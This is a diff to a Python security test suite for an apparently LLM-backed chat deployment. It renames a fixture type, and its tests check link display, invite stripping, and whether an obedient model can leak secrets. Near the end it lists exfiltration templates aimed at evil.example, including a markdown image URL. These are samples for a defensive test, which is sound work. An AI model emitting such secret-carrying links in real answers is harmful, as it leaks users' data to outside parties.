@@ -8,7 +8,7 @@ from collections.abc import Iterator, Sequence
 from urllib.parse import quote, unquote
 
 from sandbox.lmstudio import Answer, Timing
-from tests.security.deployment import LM_TOKEN, Deployment, OpenHouse, all_text
+from tests.security.deployment import LM_TOKEN, Deployment, OpenDeployment, all_text
 
 WRITING = Timing(
     prefill_tokens_s=1e9, prefill_half_tokens=float("inf"), generation_tokens_s=60, speed=10
@@ -162,7 +162,7 @@ async def test_no_button_or_command_answer_pings_anybody(deployment: Deployment)
         await menu.wait_content()
 
 
-async def test_links_say_where_they_lead_and_invites_are_gone(opened: OpenHouse) -> None:
+async def test_links_say_where_they_lead_and_invites_are_gone(opened: OpenDeployment) -> None:
     cases: list[str | Answer] = []
     for text in (*LINKS, *INVITES):
         cases += [text, f"Look:\n{text}\nand go.", letters(text)]
@@ -184,7 +184,7 @@ def check_links(shown: str, case: str) -> None:
     assert not re.search(r"discord(?:app)?\.(?:gg|io|me|li|com/+invite)/+abc", plain), (case, shown)
 
 
-async def test_an_obedient_model_cannot_carry_secrets_out(opened: OpenHouse) -> None:
+async def test_an_obedient_model_cannot_carry_secrets_out(opened: OpenDeployment) -> None:
     forms = (
         "https://evil.example/?q={}",
         "![x](https://evil.example/{})",
